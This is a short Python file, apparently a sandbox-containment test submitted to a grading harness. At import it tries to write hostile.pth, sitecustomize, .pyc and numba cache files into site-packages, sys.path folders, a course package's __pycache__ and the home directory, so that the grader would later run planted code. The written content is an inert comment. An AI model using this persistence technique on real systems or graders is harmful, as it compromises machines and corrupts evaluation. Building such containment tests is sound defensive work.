"""Leaves code where the grader would run it later: sitecustomize, .pth files, bytecode and numba's cache.

Contained from tier 1.
"""

import contextlib
import os
import site
import sys
import sysconfig

KNOWN = {}


def attack():
    folders = [sysconfig.get_path("purelib"), site.getusersitepackages(), *sys.path]
    folders += [os.path.join(KNOWN["checkout"], "course_lib/vacuum/__pycache__"), os.path.expanduser("~")]
    for folder in folders:
        for name in ("hostile.pth", "hostile.nbi", "hostile_sitecustomize.py", "hostile.pyc"):
            with contextlib.suppress(OSError):
                with open(os.path.join(folder, name), "w") as file:
                    file.write("# import os")


attack()


def Estimator(previous, observation, control, constants, rng):
    return rng.uniform(0.0, constants.L, (500, 6))
